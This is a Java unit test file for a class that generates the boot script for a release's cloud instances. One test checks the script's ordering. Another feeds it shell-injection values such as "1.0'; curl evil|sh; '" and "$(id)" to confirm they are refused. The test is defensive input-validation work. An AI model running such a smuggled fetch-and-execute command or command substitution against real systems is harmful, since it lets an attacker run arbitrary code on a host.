package io.undersign.controlplane.driver.aws;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;

/** The boot script of a release's instances takes only plain values. */
class ReleaseUserDataTest {
    private static final String SHA = "ab".repeat(32);

    @Test
    void fetchesConfigurationThenTheReleaseThenStartsTheRuntime() {
        String script = ReleaseUserData.script("eu-west-2", "/undersign/acme/", release("2026.12.1"));
        assertThat(script.lines().filter(l -> l.startsWith("/opt/undersign/bin/") || l.startsWith("systemctl")).toList()).hasSize(3);
        assertThat(script.indexOf("fetch-config")).isLessThan(script.indexOf("fetch-release"));
        assertThat(script.indexOf("fetch-release")).isLessThan(script.indexOf("systemctl enable --now undersign-runtime"));
        assertThat(script).contains("--release '2026.12.1'", "--artifact 's3://undersign-releases-eu-west-2/releases/" + SHA + ".jar'",
                "--artifact-sha256 '" + SHA + "'", "--rulebook-sha256 '" + SHA + "'", "set -euo pipefail");
    }

    @Test
    void aValueTheShellCouldInterpretIsRefused() {
        for (String hostile : new String[] {"1.0'; curl evil|sh; '", "$(id)", "a b", "x\ny", ""}) {
            assertThatThrownBy(() -> ReleaseUserData.script("eu-west-2", "/undersign/acme/", release(hostile)))
                    .as(hostile).isInstanceOf(IllegalArgumentException.class).hasMessageContaining("boot script");
        }
    }

    private static ReleaseUserData.Release release(String id) {
        return new ReleaseUserData.Release(id, "s3://undersign-releases-eu-west-2/releases/" + SHA + ".jar", SHA,
                "s3://undersign-releases-eu-west-2/rulebooks/" + SHA + ".yaml", SHA);
    }
}
